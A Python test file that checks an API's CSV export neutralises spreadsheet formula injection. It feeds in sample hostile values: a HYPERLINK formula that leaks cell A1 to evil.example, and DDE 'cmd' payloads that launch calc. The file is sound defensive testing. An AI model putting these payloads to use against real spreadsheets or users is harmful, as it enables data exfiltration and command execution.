"""Every CSV the API writes opens safely in a spreadsheet: caller-controlled keys that would run as formulas
come back neutralised (a leading quote), on SQLite and PostgreSQL, through `shared.api.handle`."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

from shared.api.handler import handle
from shared.api.http import ApiRequest
from shared.ingest.types import IncomingEvent
from shared.reports.csv_export import FORMULA_STARTS
from tests.builders import capture_event, encode

HOSTILE = {
    "deployment": '=HYPERLINK("http://evil.example/?leak="&A1,"details")',
    "user": "@SUM(1+1)*cmd|' /C calc'!A0",
    "ip": "-2+3+cmd|' /C calc'!A0",
    "subscription": "+1+1",
    "app": "\t=1+1",
}


def _csv(context, name: str, query: dict[str, str]) -> list[list[str]]:
    response = handle(
        name, ApiRequest("GET", "/api/x", {k: [v] for k, v in {**query, "format": "csv"}.items()}), context
    )
    assert response.status == 200 and response.content_type.startswith("text/csv")
    return list(csv.reader(io.StringIO(response.body.decode(), newline="")))


def test_usage_and_timeseries_csv_neutralise_formula_cells_and_keep_numbers(context):
    now = datetime.now(UTC)
    event = capture_event(
        call_id="formula-1",
        time=(now - timedelta(hours=1)).isoformat(),
        deployment=HOSTILE["deployment"],
        user_id=HOSTILE["user"],
        ip=HOSTILE["ip"],
        subscription_id=HOSTILE["subscription"],
    )
    event["caller"]["appId"] = HOSTILE["app"]
    assert context.ingestor.ingest_batch([IncomingEvent(body=encode(event))]).recorded == 1
    tables = [
        _csv(context, "usage", {"groupBy": "deployment,user,ip"}),
        _csv(context, "usage", {"groupBy": "subscription,app"}),
        _csv(context, "usage_timeseries", {"groupBy": "deployment,user,ip"}),
        _csv(context, "usage_timeseries", {"groupBy": "subscription,app", "interval": "hour"}),
    ]
    cells = [cell for table in tables for row in table for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert {"'" + value for value in HOSTILE.values()} <= set(cells)
    header, row = tables[0]
    assert dict(zip(header, row, strict=True))["totalTokens"] == "73"  # figures stay numbers
